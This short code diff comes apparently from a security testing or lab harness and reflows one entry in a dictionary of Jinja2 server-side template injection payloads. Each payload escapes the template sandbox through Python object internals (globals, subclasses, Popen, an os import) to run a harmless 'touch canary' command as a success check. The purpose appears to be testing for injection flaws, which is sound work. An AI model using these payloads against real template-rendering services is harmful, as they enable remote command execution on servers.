@@ -111,8 +111,8 @@ def code(lab: Lab, seed: int) -> Iterator[Try]:
 
 TEMPLATES = {
     "globals": "{{ cycler.__init__.__globals__.os.system('touch canary') }}",
-    "subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if 'Popen' in c.__name__ %}{{ c('touch canary', shell=True) }}"
-    "{% endif %}{% endfor %}",
+    "subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if 'Popen' in c.__name__ %}"
+    "{{ c('touch canary', shell=True) }}{% endif %}{% endfor %}",
     "self": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch canary') }}",
     "format": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
     "import": "{% import 'os' as os %}{{ os.system('touch canary') }}",
